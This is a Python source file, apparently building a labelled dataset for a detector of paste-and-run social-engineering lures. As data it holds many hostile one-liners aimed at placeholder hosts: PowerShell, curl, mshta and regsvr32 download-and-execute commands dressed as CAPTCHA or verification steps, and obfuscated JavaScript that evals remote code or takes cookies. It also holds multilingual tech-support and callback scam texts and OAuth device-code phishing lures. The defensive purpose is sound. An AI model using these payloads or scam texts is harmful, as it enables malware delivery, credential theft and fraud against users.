    jsx = [
        "window[atob('ZXZhbA==')](atob('"
        + b64("fetch('https://bracket-js.test/a').then(r=>r.text()).then(eval)")
        + "'))",
        "this['\\x65\\x76\\x61\\x6c'](\"" + esc_hex("import('https://hexjs.invalid/m.js')") + '")',
        "[]['filter']['constructor'](atob('"
        + b64("location='https://ctor-js.example/?'+document.cookie")
        + "'))()",
        "eval(decodeURIComponent('"
        + "".join(
            f"%{b:02x}" for b in b"fetch('https://uri-js.test/x').then(r=>r.text()).then(eval)"
        )
        + "'))",
        "javascript:/*checking*/eval(atob('"
        + b64(
            "s=document.createElement('script');s.src='https://bm-js.invalid/b.js';document.body.append(s)"
        )
        + "'))",
        "Function(String.fromCharCode.apply(null,["
        + char_codes("fetch('https://apply-js.example/q').then(r=>r.text()).then(eval)")
        + "]))()",
    ]
    for i, t in enumerate(jsx):
        if i % 2 == 0:
            L.lure("obfuscated-js", CON, DISCORD_PAGES[i % 3], t, platform="any")
        else:
            L.ioc("obfuscated-js", t, target=CON, platform="any")


def url_tail_lures(L: Lures) -> None:
    """Only an address, with a fake verification tail after it, for the Run box."""
    items = [
        "https://humangate-verify.test/verify.hta   # \u2705 I'm not a robot - reCAPTCHA ID 5512",
        "http://198.51.100.242/chk.cmd" + NBSP * 35 + "# Human verification complete",
        "\\\\unc-verify.invalid@SSL\\c\\verify.bat   # Cloudflare: Verify you are human",
        "https://setup-verify.example/HumanCheck.msi     # Ray ID 7f31b0 \u2713 press Enter",
        "https://wsf-gate.test/v.wsf" + EMSP * 30 + "# Verification step 2/2",
        "http://203.0.113.192/e.vbs   :: Je ne suis pas un robot",
    ]
    for i, t in enumerate(items):
        L.lure("url-verify-tail", RUN, page(i + 17), t)


def scam_lures(L: Lures) -> None:
    """Tech-support and callback-phishing texts with a phone number, in many languages."""
    support = [
        (
            "en",
            "WARNING! Your computer has been blocked due to suspicious activity (Error #0x80072ee7). Do not restart or shut down your PC. Call Windows Support immediately at +1 (844) 555-0148 to unlock your device.",
        ),
        (
            "en",
            "Microsoft Defender: Trojan Spyware detected. Your banking passwords and photos are at risk. Contact a certified technician now: 1-888-555-0163 (toll free).",
        ),
        (
            "de",
            "ACHTUNG: Ihr Computer wurde aufgrund verd\u00e4chtiger Aktivit\u00e4ten gesperrt. Schalten Sie den PC nicht aus. Rufen Sie sofort den Windows-Support an: +49 800 555 0172",
        ),
        (
            "fr",
            "Alerte de s\u00e9curit\u00e9 : votre ordinateur est infect\u00e9 par un virus. Vos donn\u00e9es bancaires sont en danger. Appelez imm\u00e9diatement le support Microsoft au +33 1 55 50 18 42.",
        ),
        (
            "es",
            "Su equipo ha sido bloqueado por motivos de seguridad. No cierre esta ventana. Llame al soporte t\u00e9cnico de Windows: +34 900 555 214 para desbloquearlo.",
        ),
        (
            "it",
            "Il tuo PC \u00e8 stato bloccato a causa di un virus. Non spegnere il computer. Chiama subito l'assistenza Microsoft al numero +39 02 5550 1187.",
        ),
        (
            "pt",
            "Seu computador foi bloqueado por atividade suspeita. Ligue imediatamente para o Suporte Windows: +55 11 5555-0193 para evitar a perda de dados.",
        ),
        (
            "nl",
            "Waarschuwing: uw computer is geblokkeerd wegens verdachte activiteit. Bel direct de Microsoft-helpdesk op +31 20 555 0136. Sluit uw pc niet af.",
        ),
        (
            "pl",
            "Tw\u00f3j komputer zosta\u0142 zablokowany z powodu wykrycia wirusa. Nie wy\u0142\u0105czaj urz\u0105dzenia. Zadzwo\u0144 natychmiast do pomocy technicznej Windows: +48 22 555 01 49.",
        ),
        (
            "tr",
            "Bilgisayar\u0131n\u0131z \u015f\u00fcpheli etkinlik nedeniyle engellendi. Bilgisayar\u0131 kapatmay\u0131n. Hemen Microsoft Destek'i aray\u0131n: +90 212 555 0167.",
        ),
        (
            "ru",
            "\u0412\u043d\u0438\u043c\u0430\u043d\u0438\u0435! \u0412\u0430\u0448 \u043a\u043e\u043c\u043f\u044c\u044e\u0442\u0435\u0440 \u0437\u0430\u0431\u043b\u043e\u043a\u0438\u0440\u043e\u0432\u0430\u043d \u0438\u0437-\u0437\u0430 \u0432\u0438\u0440\u0443\u0441\u0430. \u041d\u0435 \u0432\u044b\u043a\u043b\u044e\u0447\u0430\u0439\u0442\u0435 \u041f\u041a. \u0421\u0440\u043e\u0447\u043d\u043e \u043f\u043e\u0437\u0432\u043e\u043d\u0438\u0442\u0435 \u0432 \u0441\u043b\u0443\u0436\u0431\u0443 \u043f\u043e\u0434\u0434\u0435\u0440\u0436\u043a\u0438 Microsoft: +7 495 555-01-28.",
        ),
        (
            "ja",
            "\u8b66\u544a\uff1a\u304a\u4f7f\u3044\u306e\u30b3\u30f3\u30d4\u30e5\u30fc\u30bf\u30fc\u306f\u30a6\u30a4\u30eb\u30b9\u306b\u611f\u67d3\u3057\u3066\u3044\u307e\u3059\u3002\u96fb\u6e90\u3092\u5207\u3089\u305a\u306b\u3001\u4eca\u3059\u3050Windows\u30b5\u30dd\u30fc\u30c8\uff080120-555-014\uff09\u306b\u304a\u96fb\u8a71\u304f\u3060\u3055\u3044\u3002",
        ),
        (
            "zh",
            "\u8b66\u544a\uff1a\u60a8\u7684\u7535\u8111\u56e0\u53ef\u7591\u6d3b\u52a8\u5df2\u88ab\u9501\u5b9a\u3002\u8bf7\u52ff\u5173\u95ed\u7535\u8111\uff0c\u7acb\u5373\u62e8\u6253\u5fae\u8f6f\u6280\u672f\u652f\u6301\u70ed\u7ebf +86 400 555 0139 \u89e3\u9501\u3002",
        ),
        (
            "ar",
            "\u062a\u062d\u0630\u064a\u0631: \u062a\u0645 \u062d\u0638\u0631 \u062c\u0647\u0627\u0632 \u0627\u0644\u0643\u0645\u0628\u064a\u0648\u062a\u0631 \u0627\u0644\u062e\u0627\u0635 \u0628\u0643 \u0628\u0633\u0628\u0628 \u0646\u0634\u0627\u0637 \u0645\u0634\u0628\u0648\u0647. \u0644\u0627 \u062a\u0642\u0645 \u0628\u0625\u064a\u0642\u0627\u0641 \u062a\u0634\u063a\u064a\u0644 \u0627\u0644\u062c\u0647\u0627\u0632. \u0627\u062a\u0635\u0644 \u0628\u062f\u0639\u0645 \u0645\u0627\u064a\u0643\u0631\u0648\u0633\u0648\u0641\u062a \u0641\u0648\u0631\u064b\u0627 \u0639\u0644\u0649 \u0627\u0644\u0631\u0642\u0645 +971 4 555 0188",
        ),
        (
            "ko",
            "\uacbd\uace0: \uadc0\ud558\uc758 \ucef4\ud4e8\ud130\uac00 \ubc14\uc774\ub7ec\uc2a4\uc5d0 \uac10\uc5fc\ub418\uc5b4 \ucc28\ub2e8\ub418\uc5c8\uc2b5\ub2c8\ub2e4. \uc804\uc6d0\uc744 \ub044\uc9c0 \ub9c8\uc2dc\uace0 \uc989\uc2dc Windows \uace0\uac1d\uc13c\ud130 +82 2 555 0147 \ub85c \uc804\ud654\ud558\uc2ed\uc2dc\uc624.",
        ),
        (
            "sv",
            "Varning: din dator har sp\u00e4rrats p\u00e5 grund av misst\u00e4nkt aktivitet. St\u00e4ng inte av datorn. Ring Microsoft-support omedelbart p\u00e5 +46 8 555 012 37.",
        ),
        (
            "cs",
            "Upozorn\u011bn\u00ed: V\u00e1\u0161 po\u010d\u00edta\u010d byl zablokov\u00e1n kv\u016fli viru. Nevyp\u00ednejte jej a okam\u017eit\u011b volejte technickou podporu Windows na +420 555 012 394.",
        ),
        (
            "en",
            "Your internet service has been suspended: malware was detected on your network by your ISP. To restore access call the Network Security Desk at (877) 555-0121 now.",
        ),
        (
            "en",
            "Apple Security Alert: your iCloud account is locked after a breach attempt on your iPhone. Call Apple Support at +1 855 555 0177 within 30 minutes to avoid permanent deletion.",
        ),
    ]
    for lang, text in support:
        L.lure(f"support-scam-{lang}", UNK, page(len(text)), text, expect="flagged", platform="any")
    callback = [
        (
            "en",
            "Thank you for your order! Invoice #GS-448120. Your Geek Squad Total Protection plan renews today for $499.99. If you did not authorise this charge, call our billing department at +1 (808) 555-0132 within 24 hours.",
        ),
        (
            "en",
            "PayPal: A payment of $749.00 to Coinbase Digital has been processed. If you don't recognise this transaction, contact PayPal Resolution Centre at 1-866-555-0185 to cancel and receive a refund.",
        ),
        (
            "de",
            "Ihre Bestellung Nr. DE-44817 \u00fcber 389,00 \u20ac (Norton 360 Jahresabo) wurde best\u00e4tigt. Falls Sie diese Bestellung nicht get\u00e4tigt haben, rufen Sie uns an: +49 69 555 01 83.",
        ),
        (
            "fr",
            "Confirmation de commande : renouvellement McAfee Total Protection 299,99 \u20ac pr\u00e9lev\u00e9 aujourd'hui. Pour annuler et \u00eatre rembours\u00e9, appelez le +33 9 55 50 27 61.",
        ),
        (
            "es",
            "Su suscripci\u00f3n a Amazon Prime ha sido renovada por 219,00 \u20ac. Si no reconoce este cargo, llame a nuestro centro de atenci\u00f3n al +34 911 555 073 para solicitar el reembolso.",
        ),
        (
            "it",
            "Ordine confermato: iPhone 16 Pro, 1.329,00 \u20ac, addebitato sulla sua carta. Se non ha effettuato questo acquisto chiami subito il +39 06 5550 2214 per bloccare la spedizione.",
        ),
        (
            "pt",
            "Confirma\u00e7\u00e3o: sua assinatura do antiv\u00edrus foi renovada por R$ 1.249,90. Caso n\u00e3o reconhe\u00e7a esta compra, ligue para +55 21 5555-0117 para cancelar.",
        ),
        (
            "nl",
            "Uw bestelling van een Samsung Galaxy S25 (1.099 euro) wordt vandaag verzonden. Niet besteld? Bel direct onze klantenservice op +31 10 555 0192 om te annuleren.",
        ),
        (
            "ja",
            "\u3054\u6ce8\u6587\u3042\u308a\u304c\u3068\u3046\u3054\u3056\u3044\u307e\u3059\u3002\u30a6\u30a4\u30eb\u30b9\u5bfe\u7b56\u30bd\u30d5\u30c8\u5e74\u9593\u30d7\u30e9\u30f3\uff0848,800\u5186\uff09\u306e\u66f4\u65b0\u304c\u5b8c\u4e86\u3057\u307e\u3057\u305f\u3002\u304a\u5fc3\u5f53\u305f\u308a\u304c\u306a\u3044\u5834\u5408\u306f 03-5550-1288 \u307e\u3067\u304a\u96fb\u8a71\u304f\u3060\u3055\u3044\u3002",
        ),
        (
            "pl",
            "Potwierdzenie zam\u00f3wienia: odnowienie licencji antywirusowej za 1299 z\u0142 zosta\u0142o pobrane. Je\u015bli to nie Ty, zadzwo\u0144 pod +48 58 555 02 41, aby anulowa\u0107.",
        ),
    ]
    for lang, text in callback:
        L.lure(f"callback-{lang}", UNK, page(len(text) + 3), text, expect="flagged", platform="any")


def oauth_lures(L: Lures) -> None:
    """ConsentFix: a loopback redirect carrying an authorisation code that a page asks to paste
    back; device-code phishing."""
    consent = [
        "http://localhost:8400/?code=0.ARoAv4j5cvGGr0GRqy180BHbR1mX3bZ2fKpCt9wK&state=a81fe2c0&session_state=4f2a3d1e-8b6c-4f3a-9d2e-1c7b6a5e4d3f",
        "http://127.0.0.1:53682/?state=xk29fq&code=4/0AVMBsJh7Q2lEv-9nTzCz4y1sVwX8rGkHbLm2&scope=https://www.googleapis.com/auth/drive",
        "http://localhost:3000/auth/callback?code=M.C534_BAY.2.U.9e71c1b0-44aa-2f7d-7b1e-0c3d5a2b8f11&state=cb91",
        "http://[::1]:8080/callback?code=eyJ0eXAiOiJKV1QiLCJub25jZSI6IjhmMmEifQ.abc123&state=7d1e",
        "http://localhost/?code=0.AUsA2f8kQzvZ1UqB7xT3yV9wL1cM4eR6tG8hJ2kN5pQ&client_info=eyJ1aWQiOiIxIn0&state=9912",
    ]
    for i, t in enumerate(consent):
        L.lure(
            "consentfix",
            UNK,
            [
                "https://sharepoint-docview.test/open",
                "https://secure-fileshare.invalid/doc/7731",
                "https://adobe-sign-review.example/agreement",
            ][i % 3],
            t,
            expect="flagged",
            platform="any",
        )
    L.lure(
        "consentfix",
        UNK,
        "https://teams-file-access.test/verify",
        "To finish opening the shared file, copy the full address from your browser bar (it starts with http://localhost) and paste it here: http://localhost:8400/?code=0.AXwAq8s7Gm5kUUeJ3wP9zY4tB2nC6vD1fE8g&state=55aa",
        expect="flagged",
        platform="any",
    )
    device = [
        "Your mailbox will be disabled today. Go to https://microsoft.com/devicelogin and enter the code FJ7K-Q2MX to keep your access.",
        "IT notice: re-verify your Teams account. Open https://microsoft.com/devicelogin and type ABCD-7H3Q when asked, then sign in as usual.",
        "Security review for your repository: visit https://github.com/login/device and enter 8F3D-21KQ to confirm you are the owner.",
        "Payroll update: to view your December payslip, go to https://microsoft.com/devicelogin, enter RQ4T-9WZL and approve the sign-in.",
    ]
    for t in device:
        L.lure(
            "device-code",
            UNK,
            "https://hr-portal-notice.invalid/payroll",
            t,
            expect="flagged",
            platform="any",
        )


def more_live_lures(L: Lures) -> None:
    """More live-page shapes: social wrappers around the usual one-liners."""
    items = [
        (
            "discord-verify",
            RUN,
            DISCORD_PAGES[0],
            'powershell -w h -c "irm https://guild-gatekeeper.invalid/v|iex"  # Discord member verification: paste and press Enter',
        ),
        (
            "discord-verify",
            TERM,
            DISCORD_PAGES[1],
            "curl -s https://botcheck-relay.example/mac | bash  # Verify to unlock #general",
            "macos",
        ),
        (
            "discord-verify",
            RUN,
            DISCORD_PAGES[2],
            "mshta https://rolecheck-captchabot.test/role  # Role assignment (Captcha.bot)",
        ),
        (
            "fake-captcha-run",
            RUN,
            page(1),
            "powershell \"$a='https://quilted-sky.invalid/';iex (New-Object Net.WebClient).DownloadString($a+'r'+'.ps1')\"  # \u2714 Verified",
        ),
        (
            "fake-captcha-run",
            RUN,
            page(2),
            'cmd /c start "" /min curl -sL https://moonraker-cdn.test/b.exe -o %TEMP%\\b.exe ^& start %TEMP%\\b.exe  # Verification step 3',
        ),
        (
            "fake-captcha-run",
            RUN,
            page(3),
            "powershell -c \"irm ((irm 'https://relay-index.example/cfg').next)|iex\"  # reCAPTCHA v3 token refresh",
        ),
        (
            "fake-captcha-run",
            RUN,
            page(4),
            "msiexec /package https://stamp-verify.invalid/m /quiet  # I'm human",
        ),
        (
            "fake-captcha-run",
            RUN,
            page(6),
            'powershell -w hidden -c "Invoke-WebRequest https://glimmer-drop.test/g.exe -OutFile $env:LOCALAPPDATA\\g.exe; Start-Process $env:LOCALAPPDATA\\g.exe"  # Human check',
        ),
        (
            "fake-captcha-run",
            RUN,
            page(7),
            "regsvr32 /s /i:http://203.0.113.238/r.sct scrobj.dll  # Cloudflare verification",
        ),
        (
            "fake-captcha-run",
            RUN,
            page(8),
            "cmd /c curl -s https://tallgrass-cdn.invalid/v.txt | cmd  # Press Enter to verify",
        ),
        (
            "fake-captcha-run",
            RUN,
            page(19),
            'powershell -nop -c "(New-Object Net.WebClient).DownloadFile(\'https://stillwater-dl.example/s.exe\',\\"$env:TEMP\\s.exe\\");saps $env:TEMP\\s.exe"  # anti-bot check',
        ),
        (
            "fake-captcha-run",
            RUN,
            page(20),
            'powershell -c "$b=(iwr https://pixel-host.test/logo.png -UseB).Content;$t=[Text.Encoding]::ASCII.GetString($b[2000..6000]);iex $t"  # Verifying browser',
        ),
        (
            "fake-captcha-run",
            RUN,
            page(21),
            "mshta \"javascript:a=GetObject('script:https://mshtajs.invalid/s.sct').Exec();close()\"  # Verification",
        ),
        (
            "fake-captcha-terminal",
            TERM,
            page(22),
            "Invoke-Expression (Invoke-RestMethod 'https://verdigris-api.example/t')  # Verification complete",
            "windows",
        ),
        (
            "fake-verify-macos",
            TERM,
            page(23),
            "curl -fsSL https://cloudcheck-mac.test/v | sudo -S bash  # enter your Mac password to verify",
            "macos",
        ),
        (
            "fake-verify-macos",
            TERM,
            page(0),
            'bash -c "$(curl -fsSL https://maczip-host.invalid/m.sh)" && open -a Terminal  # human check',
            "macos",
        ),
        (
            "fake-verify-linux",
            TERM,
            page(1),
            "curl -sSL https://aptfix-mirror.example/key.sh | sudo sh -  # fix broken package signature",
            "linux",
        ),
        (
            "fake-error",
            RUN,
            page(5),
            'powershell -c "irm https://driverfix-cdn.test/audio|iex"  # Audio driver error 0x8007045D fix',
        ),
        (
            "fake-error",
            EXP,
            page(6),
            'powershell -c "iwr https://sharepoint-fix.invalid/sp|iex"'
            + " " * 60
            + "# \\\\SharePoint\\Team\\Report_Q4.xlsx",
        ),
        (
            "fake-update",
            RUN,
            page(7),
            'cmd /c "curl -sk https://flashupd.example/u.cmd -o %TEMP%\\u.cmd & %TEMP%\\u.cmd"  # Chrome update (required)',
        ),
    ]
    for item in items:
        tech, tgt, pg, text = item[:4]
        plat = item[4] if len(item) > 4 else "windows"
        L.lure(tech, tgt, pg, text, platform=plat)


def all_lures() -> Lures:
    L = Lures()
    fake_captcha_lures(L)
    filefix_lures(L)
    terminal_lures(L)
    console_lures(L)
    meeting_and_error_lures(L)
    wrapped_proxies(L)
    more_live_lures(L)
    ioc_lures(L)
    obfuscation_lures(L)
    url_tail_lures(L)
    scam_lures(L)
    oauth_lures(L)
    return L


def lure_rows() -> list[dict[str, str]]:
    return _lure_rows(PREFIX, all_lures())


# Own-page installers: real projects' documented install lines, found by searching public README
# files (README, "Blind-19"); none of these projects is in sets 1-18 (checked by repository).
# (project page, install text). The page is the project's repository, its releases or its host.
INSTALLERS: list[tuple[str, str]] = [
    (
        "https://github.com/bobberdolle1/DeckTune/releases/latest",
        "curl -L https://github.com/bobberdolle1/DeckTune/releases/latest/download/install.sh | sh",
    ),
    (
        "https://github.com/dphbfs/ha-ev-charging-bridge",
        "curl -fsSL https://github.com/dphbfs/ha-ev-charging-bridge/releases/latest/download/install.sh | sh",
    ),
    (
        "https://github.com/gethandup/handup/releases/latest",
        "curl -fsSL https://github.com/gethandup/handup/releases/latest/download/install.sh | sh",
    ),
    (
        "https://github.com/lumenikoly/docu-docu",
        "curl -fsSL https://github.com/lumenikoly/docu-docu/releases/latest/download/install.sh | sh",
    ),
    (
        "https://github.com/lumenikoly/docu-docu/releases/latest",
        "irm https://github.com/lumenikoly/docu-docu/releases/latest/download/install.ps1 | iex",
    ),
    (
        "https://github.com/matheus-cintra/open-desktop",
        "curl -fsSL https://github.com/matheus-cintra/open-desktop/releases/latest/download/install.sh | sh",
    ),
    ("https://github.com/wishworldbetter/seedex", "brew install wishworldbetter/tap/seedex-cli"),
    (
        "https://github.com/wishworldbetter/seedex",
        "curl -fsSL https://github.com/wishworldbetter/seedex/releases/latest/download/install.sh | sh",
    ),
    (
        "https://github.com/longthread/stackward/releases/latest",
        "curl -fsSL https://github.com/longthread/stackward/releases/latest/download/install.sh | sh",
    ),
    (
        "https://github.com/RoacherM/epi",
        "curl --proto '=https' --tlsv1.2 -fsSL \\\n  https://github.com/RoacherM/epi/releases/latest/download/install.sh | sh",
    ),
    (
        "https://github.com/taigatappuri/AHC-Plaza/releases/latest",
        "curl -fsSL https://github.com/taigatappuri/AHC-Plaza/releases/latest/download/install.sh | sh",
    ),
    (
        "https://github.com/cacheqian/shell-script",
        "wget -qO- https://raw.githubusercontent.com/cacheqian/shell-script/refs/heads/main/enhance-ssh-secure.sh | bash",
    ),
    (
        "https://github.com/moneyfly1/sb",
        "bash <(wget -qO- https://raw.githubusercontent.com/moneyfly1/sb/main/sb.sh)",
    ),
    (
        "https://github.com/gWasik/lxc",
        'bash -c "$(wget -qLO - https://raw.githubusercontent.com/gWasik/lxc/refs/heads/main/update-owrt.sh)"',
    ),
    (
        "https://github.com/zerx-lab/FluxDown",
        "cargo install --git https://github.com/zerx-lab/FluxDown fluxdown_cli",
    ),
    (
        "https://github.com/astroai/canfar-lab",
        "pipx install git+https://github.com/astroai/canfar-lab.git",
    ),
    (
        "https://github.com/gmhoward9289-ops/roost",
        "pipx install git+https://github.com/gmhoward9289-ops/roost",
    ),
    (
        "https://github.com/dunossauro/videomaker-helper",
        "pipx install git+https://github.com/dunossauro/videomaker-helper.git",
    ),
    (
        "https://github.com/yuyangchee98/add-srt-next-to-videos",
        "pipx install git+https://github.com/yuyangchee98/add-srt-next-to-videos.git",
    ),
    (
        "https://github.com/STulling/challenge-builder",
        "pipx install git+https://github.com/STulling/challenge-builder.git",
    ),
    (
        "https://github.com/jassielof/cargit",
        "uv tool install git+https://github.com/jassielof/cargit",
    ),
    (
        "https://github.com/russeell/cross-agent-fork",
        "pipx install git+https://github.com/russeell/cross-agent-fork.git",
    ),
    (
        "https://github.com/shixin-guo/picot",
        "curl -fsSL https://raw.githubusercontent.com/shixin-guo/picot/main/scripts/install.sh | bash -s -- --version v0.3.0",
    ),
    (
        "https://github.com/TensorLink-AI/Gnomon",
        "curl -fsSL \\\n  https://raw.githubusercontent.com/TensorLink-AI/Gnomon/v0.1.0/install.sh \\\n  | bash -s -- --version v0.1.0",
    ),
    (
        "https://github.com/hauksbee-dev/hauksbee",
        "curl -fsSL https://raw.githubusercontent.com/hauksbee-dev/hauksbee/main/scripts/get-hauksbee.sh \\\n  | bash -s -- --version v0.2.1",
    ),
    (
        "https://github.com/canha/golang-tools-install-script",
        "wget -q -O - https://raw.githubusercontent.com/canha/golang-tools-install-script/master/goinstall.sh | bash -s -- --version 1.18",
    ),
    (
        "https://github.com/postacksol/flux-relay-cli",
        "go install github.com/postacksol/flux-relay-cli@v1.0.0",
    ),
    ("https://github.com/pgEdge/mm-ready-go", "go install github.com/pgEdge/mm-ready-go@latest"),
    (
        "https://github.com/twill-lang/twill",
        "go install github.com/twill-lang/twill/cmd/twill@latest",
    ),
    ("https://github.com/nu0ma/gr", "go install github.com/nu0ma/gr@latest"),
    (
        "https://github.com/JulienTant/blogwatcher-cli",
        "go install github.com/JulienTant/blogwatcher-cli/cmd/blogwatcher-cli@latest",
    ),
    (
        "https://github.com/cocos-node/zwpls",
        "curl -sSL https://raw.githubusercontent.com/cocos-node/zwpls/main/install.sh | bash -s -- -y",
    ),
    (
        "https://github.com/ValentinZurita/vsdd",
        "curl -fsSL https://raw.githubusercontent.com/ValentinZurita/vsdd/main/install.sh | bash -s -- -y",
    ),
    (
        "https://github.com/mdiloreto/linux-ubuntu-install-devtools-script",
        "curl -fsSL https://raw.githubusercontent.com/mdiloreto/linux-ubuntu-install-devtools-script/main/install.sh | bash -s -- -y",
    ),
    (
        "https://github.com/daszybak/.dotfiles",
        "curl -fsSL https://raw.githubusercontent.com/daszybak/.dotfiles/main/install.sh | bash -s -- -y",
    ),
    (
        "https://github.com/Managed-Solution-LLC/PowerShellEveryting",
        'Invoke-Expression "& {$(Invoke-RestMethod https://raw.githubusercontent.com/Managed-Solution-LLC/PowerShellEveryting/main/scripts/Intune/Start-IntuneEnrollment.ps1)}"',
    ),
    (
        "https://github.com/jeremy-merchant/OMG",
        "& ([scriptblock]::Create((Invoke-RestMethod https://raw.githubusercontent.com/jeremy-merchant/OMG/main/install.ps1)))",
    ),
    (
        "https://github.com/jeremy-merchant/OMG",
        "curl -fsSL https://raw.githubusercontent.com/jeremy-merchant/OMG/main/install | sh",
    ),
    (
        "https://github.com/Ameyanagi/yuru",
        '$script = Invoke-RestMethod https://raw.githubusercontent.com/Ameyanagi/yuru/v0.1.8/install.ps1\nInvoke-Expression "& { $script } -All -Version v0.1.8"',
    ),
    (
        "https://github.com/k5-mot/pdev-win",
        "Invoke-RestMethod https://raw.githubusercontent.com/k5-mot/pdev-win/refs/heads/main/setup.ps1 | Invoke-Expression",
    ),
    (
        "https://github.com/NicksLameCode/mcp-dashboard",
        "brew tap nickslamecode/mcp-dashboard\nbrew install mcp-dashboard",
    ),
    (
        "https://github.com/blburns/ssmtp-mailer",
        "brew tap blburns/ssmtp-mailer\nbrew install ssmtp-mailer",
    ),
    (
        "https://github.com/MADAO-NW/nginx-acl-manager",
        "curl -fsSL https://raw.githubusercontent.com/MADAO-NW/nginx-acl-manager/main/deploy/install.sh | sudo bash",
    ),
    (
        "https://github.com/orionrobots/python_usb_robot_arm",
        "curl https://raw.githubusercontent.com/orionrobots/python_usb_robot_arm/master/setup_arm.sh | sudo bash",
    ),
    (
        "https://github.com/a3-audio/a3-core",
        'wget -qO- "https://raw.githubusercontent.com/a3-audio/a3-core/main/platform-config/debian-x86_64/a3-core_install.sh" | sudo bash',
    ),
    (
        "https://github.com/ishaq2321/phantomVault",
        "wget -qO- https://github.com/ishaq2321/phantomVault/releases/download/v1.0.0/phantomvault-linux-installer.sh | sudo bash",
    ),
    ("https://github.com/zosmaai/openzosma", "npx create-openzosma"),
    (
        "https://github.com/Muster-dev/muster",
        "bash <(curl -fsSL https://raw.githubusercontent.com/Muster-dev/muster/main/install.sh)",
    ),
    (
        "https://github.com/yxwuxing/snell-auto-setup",
        "bash <(curl -fsSL https://raw.githubusercontent.com/yxwuxing/snell-auto-setup/main/install.sh)",
    ),
    (
        "https://github.com/lunaweb89/setup-secure-server",
        "bash <(curl -fsSL https://raw.githubusercontent.com/lunaweb89/setup-secure-server/main/server-toolkit.sh)",
    ),
    (
        "https://github.com/traktuner/dell-infra-manager",
        "bash <(curl -fsSL https://raw.githubusercontent.com/traktuner/dell-infra-manager/master/appliance/install-proxmox.sh)",
    ),
    (
        "https://github.com/wokiiii2025/Vastai",
        "bash <(curl -fsSL https://raw.githubusercontent.com/wokiiii2025/Vastai/main/vastai_manager.sh)",
    ),
    (
        "https://github.com/AbuZhuma/repka-piar",
        "sudo bash <(curl -fsSL https://raw.githubusercontent.com/AbuZhuma/repka-piar/main/infrastructure/scripts/install-server.sh)",
    ),
    (
        "https://github.com/mgroves/GtkSignage",
        "bash <(curl -fsSL https://raw.githubusercontent.com/mgroves/GtkSignage/prod/install.sh)",
    ),
    (
        "https://github.com/amir1376/ab-download-manager",
        "bash <(curl -fsSL https://raw.githubusercontent.com/amir1376/ab-download-manager/master/scripts/install.sh)",
    ),
    (
        "https://gitlab.com/tinyland/projects/remote-juggler",
        "curl -fsSL https://gitlab.com/tinyland/projects/remote-juggler/-/raw/main/install.sh | bash",
    ),
    (
        "https://gitlab.com/stindrago/dart-cli",
        "bash < <(curl -s https://gitlab.com/stindrago/dart-cli/-/raw/main/install.sh)",
    ),
    (
        "https://gitlab.com/mrhappynice/orl",
        "curl -fsSL https://gitlab.com/mrhappynice/orl/-/raw/main/install.sh | sudo bash -s -- 203.0.113.40",
    ),
    (
        "https://gitlab.com/animesao/dck",
        "curl -sSL https://gitlab.com/animesao/dck/-/raw/main/install.sh | bash",
    ),
    (
        "https://gitlab.cherkaoui.ch/HadiCherkaoui/onport",
        "irm https://gitlab.cherkaoui.ch/HadiCherkaoui/onport/-/raw/main/install.ps1 | iex",
    ),
    (
        "https://gitlab.cherkaoui.ch/HadiCherkaoui/onport",
        "curl -sSfL https://gitlab.cherkaoui.ch/HadiCherkaoui/onport/-/raw/main/install.sh | bash",
    ),
    (
        "https://gitlab.com/webhare/runkit",
        "curl https://gitlab.com/webhare/runkit/-/raw/main/install.sh | bash",
    ),
    (
        "https://gitlab.com/xyzmean/splify2",
        "wget -O /tmp/splify2-install.sh https://gitlab.com/xyzmean/splify2/-/raw/main/install.sh && sh /tmp/splify2-install.sh",
    ),
    (
        "https://github.com/ilien-dev/svipall",
        "scoop bucket add svipall https://github.com/ilien-dev/scoop-svipall; scoop install svipall",
    ),
    (
        "https://github.com/ilien-dev/svipall",
        "curl -fsSL https://raw.githubusercontent.com/ilien-dev/svipall/main/install.sh | sh",
    ),
    (
        "https://github.com/budimanr3101/nahkoda",
        "scoop bucket add nahkoda https://github.com/budimanr3101/homebrew-nahkoda\nscoop install nahkoda",
    ),
    (
        "https://github.com/budimanr3101/nahkoda",
        "brew tap budimanr3101/nahkoda\nbrew install nahkoda",
    ),
    (
        "https://github.com/maddada/codex-swap",
        "irm https://github.com/maddada/codex-swap/releases/latest/download/install.ps1 | iex",
    ),
    (
        "https://github.com/kuberwastaken/claurst/releases/latest",
        "irm https://github.com/kuberwastaken/claurst/releases/latest/download/install.ps1 | iex",
    ),
    (
        "https://github.com/kuberwastaken/claurst",
        "curl -fsSL https://github.com/kuberwastaken/claurst/releases/latest/download/install.sh | bash",
    ),
    (
        "https://github.com/Podiom/Podiom/releases/latest",
        "irm https://github.com/Podiom/Podiom/releases/latest/download/install.ps1 | iex",
    ),
    (
        "https://github.com/gvenusleo/atlas",
        "curl -fsSL https://github.com/gvenusleo/atlas/releases/latest/download/install.sh | bash",
    ),
    (
        "https://github.com/gosuda/portal-tunnel/releases/latest",
        "$ProgressPreference = 'SilentlyContinue'\nirm https://github.com/gosuda/portal-tunnel/releases/latest/download/install.ps1 | iex",
    ),
    (
        "https://github.com/Neutx/syncthing-v2",
        "[Net.ServicePointManager]::SecurityProtocol = [Net.ServicePointManager]::SecurityProtocol -bor 3072; irm https://github.com/Neutx/syncthing-v2/releases/latest/download/install.ps1 | iex",
    ),
    (
        "https://github.com/jmoalves/levain-2/releases/latest",
        "iwr https://github.com/jmoalves/levain-2/releases/latest/download/install.ps1 | iex",
    ),
    (
        "https://github.com/edgyarmati/omnicode",
        "irm https://github.com/edgyarmati/omnicode/releases/latest/download/install.ps1 | iex",
    ),
    (
        "https://github.com/CEHNICA/question-bank-card/releases/latest",
        "irm https://github.com/CEHNICA/question-bank-card/releases/latest/download/install.ps1 | iex",
    ),
    (
        "https://github.com/defai-digital/ax-code",
        'powershell -NoProfile -ExecutionPolicy Bypass -Command "irm https://github.com/defai-digital/ax-code/releases/latest/download/install.ps1 | iex"',
    ),
]

# ----------------------------------------------------------------------------------------------
# Other benign texts people paste, each with the page it came from (None: typed or from a chat or
# a mail) and where it goes
# ----------------------------------------------------------------------------------------------

MS = "https://learn.microsoft.com/en-us/powershell/module/"
SO = "https://stackoverflow.com/questions/"

ADMIN_PS: list[tuple[str | None, str]] = [
    (
        "https://learn.microsoft.com/en-us/powershell/module/microsoft.powershell.management/get-service",
        "Get-Service | Where-Object {$_.Status -eq 'Running'} | Sort-Object DisplayName",
    ),
    (
        "https://learn.microsoft.com/en-us/powershell/module/microsoft.powershell.diagnostics/get-winevent",
